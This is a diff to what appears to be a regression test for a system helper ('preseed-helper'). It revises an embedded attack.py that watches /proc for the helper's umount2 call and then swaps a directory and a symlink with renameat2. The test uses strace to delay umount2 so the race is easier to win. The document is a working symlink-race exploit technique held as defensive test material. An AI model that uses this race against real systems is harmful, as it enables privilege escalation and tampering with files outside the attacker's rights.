@@ -39,19 +39,24 @@ status=\$?
 exit \$status
 EOT2
 chmod +x /usr/local/sbin/zfs
-# Each umount2(2) of the helper's first thread, which sees what the machine sees, waits for three seconds before it goes down
-# its path. Once it does, the directory and the link change places in one step.
+# Each umount2(2) of the helper's first thread, which sees what the machine sees, waits for a second before it goes down its
+# path. Once it does, the directory and the link change places in one step.
 cat >/var/tmp/attack.py <<'EOT2'
-import ctypes, os, subprocess, time
+import ctypes, os, time
 HERE, EXCHANGE = -100, 2
 UMOUNT2 = '166 '
-def waits():
+def read(process, file):
     try:
-        helpers = subprocess.run(['pgrep', '--exact', 'preseed-helper'], capture_output=True, text=True).stdout
-        return os.path.exists('/run/attack-now') and open(f'/proc/{helpers.strip()}/syscall').read().startswith(UMOUNT2)
+        return open(f'/proc/{process}/{file}').read()
     except OSError:
-        return False
-while not waits():
+        return ''
+def is_helper(process):
+    # Not a child of it, which may be in a namespace of its own.
+    return read(process, 'comm') == 'preseed-helper\n' and 'TracerPid:\t0\n' not in read(process, 'status')
+def waits():
+    processes = filter(str.isdigit, os.listdir('/proc'))
+    return any(is_helper(one) and read(one, 'syscall').startswith(UMOUNT2) for one in processes)
+while not os.path.exists('/run/attack-now') or not waits():
     time.sleep(0.01)
 libc = ctypes.CDLL(None, use_errno=True)
 if libc.renameat2(HERE, b'/srv/home/link', HERE, b'/srv/home/up', EXCHANGE):
@@ -63,7 +68,7 @@ attacked() {
     touch /run/attack
     timeout 300 python3 /var/tmp/attack.py &
     local attack=$!
-    strace --quiet=all --signal=none --trace=umount2 --inject=umount2:delay_enter=3s --output=/run/trace \
+    strace --quiet=all --signal=none --trace=umount2 --inject=umount2:delay_enter=1s --output=/run/trace \
         /usr/lib/preseed/preseed-helper run app || true
     assert_exists /run/attack-now
     wait "$attack"
